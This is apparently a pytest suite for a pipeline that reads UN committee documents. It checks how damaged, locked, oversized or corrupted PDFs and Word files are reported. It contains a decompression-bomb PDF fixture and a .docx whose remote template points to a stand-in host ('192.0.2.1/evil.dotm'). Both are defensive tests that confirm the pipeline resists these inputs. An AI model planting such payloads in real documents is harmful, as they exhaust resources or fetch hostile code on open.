"""Files that are damaged, locked, lying or strange: each ends in one clear row, none in wrong text presented as right.

What is no document at all is in `test_dispatch.py`, Word files in `test_word.py`, old Word files in `test_legacy.py`.
"""

from __future__ import annotations

import random
import re
import socket
import zlib
from collections.abc import Sequence
from pathlib import Path

import pypdfium2 as pdfium
import pytest
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.ttfonts import TTFont
from reportlab.pdfgen.canvas import Canvas

from pipeline.process import process_document
from pipeline.reading import legacy, repair, tesseract
from pipeline.reading.printed import Face, PageText, Word
from pipeline.records import Result
from tests.pipeline.reading.writers import para, raw_word, with_parts
from tests.sample.fonts import find_font

A4 = (595, 842)
NAME = "CRPD_C_XMV_CO_1.pdf"
COVER = ("United Nations", "CRPD/C/XMV/CO/1", "Distr.: General", "4 March 2024", "Original: English")
ASKED = "{}. The Committee recommends that the State party open the ferries of {} to all inhabitants of the island."
needs_tesseract = pytest.mark.skipif(tesseract.missing(["en"]) is not None, reason="tesseract is not installed")


def _write(canvas: Canvas, lines: Sequence[str], font: str = "Times-Roman") -> None:
    canvas.setFont(font, 10)
    for number, line in enumerate(lines):
        canvas.drawString(60, 760 - 30 * number, line)
    canvas.showPage()


def _asked(number: int) -> str:
    """A paragraph unlike the others: what all pages have at their head is taken for a running head."""
    return ASKED.format(number, "".join("abcdefghij"[int(digit)] for digit in str(number)).capitalize() + "port")


def _document(path: Path, *, pages: int = 3, each: int = 4, font: str = "Times-Roman", **options: object) -> Path:
    canvas = Canvas(str(path), pagesize=A4, **options)
    _write(canvas, COVER, font)
    for page in range(pages):
        _write(canvas, [_asked(n) for n in range(page * each + 1, page * each + each + 1)], font)
    canvas.save()
    return path


def _by_hand(path: Path, *objects: bytes) -> Path:
    """A PDF from its objects; the first is the catalogue."""
    data, places = b"%PDF-1.4\n", []
    for number, each in enumerate(objects, start=1):
        places.append(len(data))
        data += b"%d 0 obj\n%b\nendobj\n" % (number, each)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(data))
    path.write_bytes(data + b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + table + end)
    return path


def _kinds(result: Result) -> list[str]:
    return [issue.kind for issue in result.issues if issue.step == "reading"]


def _refused(path: Path, kind: str = "unreadable") -> str:
    """The one thing said of a file that gives nothing."""
    result = process_document(path)
    assert result.document.status == "failed"
    assert not result.paragraphs and not result.recommendations
    (issue,) = result.issues
    assert issue.kind == kind
    assert re.fullmatch(rf"{re.escape(path.name)}: [^\n]+\.", issue.message)
    return issue.message


# --- locked -----------------------------------------------------------------------------------------------------------


def test_locked_by_a_password(tmp_path):
    path = _document(tmp_path / NAME, encrypt=StandardEncryption("secret", strength=128))
    assert "locked by a password; save a copy without it" in _refused(path)


def test_locked_against_copying_only_is_read(tmp_path):
    """The user password is empty: every viewer opens it."""
    lock = StandardEncryption("", ownerPassword="secret", canCopy=0, canPrint=0, strength=128)
    result = process_document(_document(tmp_path / NAME, encrypt=lock))
    assert result.document.status == "ok"
    assert [paragraph.number for paragraph in result.paragraphs] == [str(n) for n in range(1, 13)]


# --- pages ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("turned", [90, 180, 270])
def test_turned_pages_are_read_like_upright_ones(tmp_path, turned):
    upright = process_document(_document(tmp_path / NAME))
    document = pdfium.PdfDocument((tmp_path / NAME).read_bytes())
    for page in document:
        page.set_rotation(turned)
    document.save(tmp_path / NAME)
    result = process_document(tmp_path / NAME)
    assert result.document.status == upright.document.status == "ok"
    assert [(one.number, one.text) for one in result.paragraphs] == [
        (one.number, one.text) for one in upright.paragraphs
    ]


@pytest.mark.parametrize("size", [(1, 1), (3, 20_000), (14_400, 14_400)])
def test_pages_of_no_size_and_of_any_size_do_no_harm(tmp_path, size):
    document = pdfium.PdfDocument(_document(tmp_path / NAME).read_bytes())
    document.new_page(*size, index=2)
    document.save(tmp_path / NAME)
    result = process_document(tmp_path / NAME)
    assert [paragraph.number for paragraph in result.paragraphs] == [str(n) for n in range(1, 13)]
    assert result.document.status == "partial"
    (issue,) = [issue for issue in result.issues if issue.step == "reading"]
    assert (issue.kind, issue.page) == ("empty_page", 3)


@pytest.mark.slow
def test_a_thousand_pages(tmp_path):
    result = process_document(_document(tmp_path / NAME, pages=1000, each=3))
    assert result.document.pages == 1001
    assert [paragraph.number for paragraph in result.paragraphs] == [str(n) for n in range(1, 3001)]
    assert (result.document.status, _kinds(result)) == ("ok", [])


# --- damaged ----------------------------------------------------------------------------------------------------------

_CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"
_TEXT = b"BT /F 12 Tf 72 700 Td (1. The Committee recommends that Maravel open its ferries to all.) Tj ET"
_CONTENT = b"<</Length %d>>\nstream\n%b\nendstream" % (len(_TEXT), _TEXT)
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Times-Roman>>"


def test_a_page_tree_that_holds_itself(tmp_path):
    tree = b"<</Type/Pages/Count 1/Kids[2 0 R]>>"
    assert "no page of it can be opened" in _refused(_by_hand(tmp_path / NAME, _CATALOG, tree, _PAGE, _CONTENT, _FONT))


def test_a_page_tree_that_goes_round(tmp_path):
    tree, branch = b"<</Type/Pages/Count 1/Kids[6 0 R]>>", b"<</Type/Pages/Parent 2 0 R/Count 1/Kids[2 0 R]>>"
    path = _by_hand(tmp_path / NAME, _CATALOG, tree, _PAGE, _CONTENT, _FONT, branch)
    assert "no page of it can be opened" in _refused(path)


@pytest.mark.parametrize("kids", [b"3 0 R 2 0 R", b"3 0 R", b"3 0 R 9 0 R"])
def test_pages_that_cannot_be_opened_are_named(tmp_path, kids):
    tree = b"<</Type/Pages/Count 2/Kids[%b]>>" % kids
    result = process_document(_by_hand(tmp_path / NAME, _CATALOG, tree, _PAGE, _CONTENT, _FONT))
    assert result.document.status == "partial"
    assert [paragraph.number for paragraph in result.paragraphs] == ["1"]
    (issue,) = [issue for issue in result.issues if issue.step == "reading"]
    assert (issue.kind, issue.page) == ("page_lost", 2)
    assert "page 2 cannot be opened; fetch it again" in issue.message


def test_a_page_tree_that_claims_too_much(tmp_path):
    tree = b"<</Type/Pages/Count 900000/Kids[3 0 R]>>"
    path = _by_hand(tmp_path / NAME, _CATALOG, tree, _PAGE, _CONTENT, _FONT)
    assert "claims to have 900000 pages" in _refused(path, "page_limit")


@pytest.mark.parametrize("share", [0.02, 0.3, 0.6, 0.9])
def test_cut_short(tmp_path, raw, share):
    data = (raw / NAME).read_bytes()
    (tmp_path / NAME).write_bytes(data[: int(share * len(data))])
    assert "damaged or cut short" in _refused(tmp_path / NAME)


def test_a_page_that_unpacks_to_too_much_is_no_text(tmp_path):
    packed = zlib.compress(b" " * (64 << 20), 9)
    bomb = b"<</Filter/FlateDecode/Length %d>>\nstream\n%b\nendstream" % (len(packed), packed)
    assert "blank" in _refused(
        _by_hand(tmp_path / NAME, _CATALOG, b"<</Type/Pages/Count 1/Kids[3 0 R]>>", _PAGE, bomb, _FONT)
    )


# --- letters that nothing names ---------------------------------------------------------------------------------------


@pytest.fixture
def without_map(tmp_path: Path) -> Path:
    """A document whose letters print right, and of which the file does not say which they are."""
    pdfmetrics.registerFont(TTFont("Nameless", str(find_font("LiberationSerif-Regular.ttf")), asciiReadable=0))
    path = _document(tmp_path / NAME, font="Nameless", pageCompression=0)
    data = path.read_bytes()
    assert b"/ToUnicode" in data
    path.write_bytes(data.replace(b"/ToUnicode", b"/XoUnicode"))
    return path


def _believed(result: Result) -> bool:
    return any("Committee" in paragraph.text for paragraph in result.paragraphs)


def test_letters_without_a_map_are_not_taken_for_text(without_map, monkeypatch):
    monkeypatch.setattr(tesseract.shutil, "which", lambda name: None)
    result = process_document(without_map)
    assert result.document.status in ("partial", "failed")
    assert not result.recommendations
    (said,) = [issue.message for issue in result.issues if issue.step == "reading"]
    assert "install tesseract-ocr" in said


def test_some_letters_without_a_map_are_told_and_the_document_is_not_whole(tmp_path, monkeypatch):
    monkeypatch.setattr(tesseract.shutil, "which", lambda name: None)
    pdfmetrics.registerFont(TTFont("Nameless", str(find_font("LiberationSerif-Regular.ttf")), asciiReadable=0))
    canvas = Canvas(str(tmp_path / NAME), pagesize=A4, pageCompression=0)
    _write(canvas, COVER)
    for number in range(1, 9):
        canvas.setFont("Times-Roman", 10)
        canvas.drawString(60, 760 - 30 * number, _asked(number))
        canvas.setFont("Nameless", 10)
        canvas.drawString(540, 760 - 30 * number, "quay")
    canvas.save()
    data = (tmp_path / NAME).read_bytes()
    (tmp_path / NAME).write_bytes(data.replace(b"/ToUnicode", b"/XoUnicode"))
    result = process_document(tmp_path / NAME)
    assert (result.document.status, _kinds(result)) == ("partial", ["text_layer_restored", "unmapped_letters"])
    assert any("32 letters on page 2 are left out" in issue.message for issue in result.issues)


@needs_tesseract
def test_letters_without_a_map_are_read_from_the_picture(without_map):
    result = process_document(without_map)
    assert "read_by_ocr" in _kinds(result)
    assert result.document.status == "partial"  # OCR mistakes figures and names, and nothing tells where
    assert _believed(result)


def _one_in_ten_wrong(text: str, one_in: int = 10, seed: int = 9) -> str:
    chance = random.Random(seed)
    letters = "abcdefghijklmnopqrstuvwxyz"
    return "".join(chance.choice(letters) if c.islower() and chance.random() < 1 / one_in else c for c in text)


@pytest.mark.parametrize(
    "damage", [lambda text: text[::-1], lambda text: "".join(chr(ord(c) + 3) for c in text), _one_in_ten_wrong]
)
def test_a_layer_of_wrong_letters_is_never_ok(tmp_path, monkeypatch, damage):
    """Runs that are stored backwards, codes moved by some places: the letters have names, and the names are wrong."""
    monkeypatch.setattr(tesseract.shutil, "which", lambda name: None)
    canvas = Canvas(str(tmp_path / NAME), pagesize=A4)
    _write(canvas, COVER)
    for page in range(3):
        _write(canvas, [damage(_asked(number)) for number in range(4 * page + 1, 4 * page + 5)])
    canvas.save()
    result = process_document(tmp_path / NAME)
    assert result.document.status == "partial"
    assert "text_layer_damaged" in _kinds(result)


@pytest.mark.parametrize("one_in", [20, None])
def test_a_long_layer_with_a_letter_wrong_in_twenty_is_never_ok(tmp_path, monkeypatch, one_in):
    monkeypatch.setattr(tesseract.shutil, "which", lambda name: None)
    canvas = Canvas(str(tmp_path / NAME), pagesize=A4)
    _write(canvas, COVER)
    for page in range(7):
        asked = {number: _asked(number) for number in range(20 * page + 1, 20 * page + 21)}
        # Each with faults of its own: the same ones in each would be the document's way of spelling.
        _write(
            canvas, [text if one_in is None else _one_in_ten_wrong(text, one_in, seed=n) for n, text in asked.items()]
        )
    canvas.save()
    result = process_document(tmp_path / NAME)
    assert ("text_layer_damaged" in _kinds(result)) is (one_in is not None)
    assert (result.document.status == "partial") is (one_in is not None)


def test_what_glyphs_show_is_judged_as_a_whole_too(tmp_path, monkeypatch):
    """Each page may pass where the document does not: letters of sound fonts are as the layer has them."""
    monkeypatch.setattr(repair, "text_quality", lambda text: 0.97)
    monkeypatch.setattr(tesseract.shutil, "which", lambda name: None)
    canvas = Canvas(str(tmp_path / NAME), pagesize=A4)
    for page in range(7):
        _write(canvas, [_one_in_ten_wrong(_asked(n), 20, seed=n) for n in range(20 * page + 1, 20 * page + 21)])
    canvas.save()
    result = process_document(tmp_path / NAME)
    assert (result.document.status, _kinds(result)) == ("partial", ["text_layer_damaged"])


# --- what is not installed --------------------------------------------------------------------------------------------


def test_a_scan_where_tesseract_lacks_the_language(root, tmp_path, monkeypatch):
    monkeypatch.setattr(tesseract, "_installed", lambda: frozenset({"osd", "fin"}))
    monkeypatch.setattr(tesseract.shutil, "which", lambda name: "/nowhere/" + name)
    monkeypatch.setattr(tesseract, "script_of", lambda document: "Cyrl")
    scan = tmp_path / NAME
    scan.write_bytes((root / "tests" / "documents" / "edge" / "scan_without_text.pdf").read_bytes())
    assert "install tesseract-ocr-rus and run again" in _refused(scan)


@pytest.mark.parametrize(
    ("lacking", "remedy"),
    [("tesseract-ocr-ara", "install tesseract-ocr-ara and run again, or compare with"), (None, "; compare with")],
)
def test_letters_that_only_a_damaged_layer_tells_are_counted(monkeypatch, lacking, remedy):
    monkeypatch.setattr(tesseract, "missing", lambda codes: lacking)
    face = Face(12.0, False, False, False)
    page = PageText(595.0, 842.0, [[Word("العبارات", 100.0, 150.0, 90.0, face)]], 8, 0, [])
    work = repair._Work(Path(NAME), pdfium.PdfDocument.new(), [page], [0.1])
    work._put({0: page}, {0: 3})
    restored, unknown = work.doubts
    assert (restored.kind, unknown.kind) == ("text_layer_restored", "unknown_glyphs")
    assert unknown.message.startswith("3 letters on page 1 ") and remedy in unknown.message


def test_a_damaged_layer_where_tesseract_lacks_the_language(tmp_path, monkeypatch):
    monkeypatch.setattr(tesseract, "_installed", lambda: frozenset({"osd", "fin"}))
    monkeypatch.setattr(tesseract.shutil, "which", lambda name: "/nowhere/" + name)
    canvas = Canvas(str(tmp_path / NAME), pagesize=A4)
    _write(canvas, COVER)
    _write(canvas, [_one_in_ten_wrong(_asked(number)) for number in range(1, 9)])
    canvas.save()
    result = process_document(tmp_path / NAME)
    assert result.document.status == "partial"
    (issue,) = [issue for issue in result.issues if issue.step == "reading"]
    assert issue.kind == "text_layer_damaged"
    assert "install tesseract-ocr" in issue.message and "fetch the Word version" in issue.message


def test_an_old_word_file_without_libreoffice(tmp_path, monkeypatch):
    monkeypatch.setattr(legacy, "program", lambda: None)
    path = tmp_path / "CRPD_C_XMV_CO_1.doc"
    path.write_bytes(b"\xd0\xcf\x11\xe0" + bytes(600) + "WordDocument".encode("utf-16-le") + bytes(200))
    assert "install LibreOffice" in _refused(path)


def test_a_word_file_that_is_a_web_page_is_read_and_said_so(tmp_path):
    path = tmp_path / "CRPD_C_XMV_CO_1.doc"
    path.write_text(
        "<html><body>" + "".join(f"<p>{line}</p>" for line in (*COVER, _asked(1), _asked(2))) + "</body></html>"
    )
    result = process_document(path)
    assert [paragraph.number for paragraph in result.paragraphs] == ["1", "2"]
    assert _kinds(result) == ["not_what_its_name_says"]


# --- Word files that want something -----------------------------------------------------------------------------------


def test_word_with_a_remote_template_asks_nobody(tmp_path, monkeypatch):
    def nobody(*args: object, **options: object) -> None:
        raise AssertionError("something was asked of the network")

    monkeypatch.setattr(socket.socket, "connect", nobody)
    path = raw_word(tmp_path / "CRPD_C_XMV_CO_1.docx", para(_asked(1)), settings='<w:attachedTemplate r:id="t"/>')
    head = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    link = '<Relationship Id="t" Type="{}/attachedTemplate" TargetMode="External" Target="http://192.0.2.1/evil.dotm"/>'
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    with_parts(path, {"word/_rels/settings.xml.rels": head + link.format(office) + "</Relationships>"}, {})
    result = process_document(path)
    assert [paragraph.number for paragraph in result.paragraphs] == ["1"]
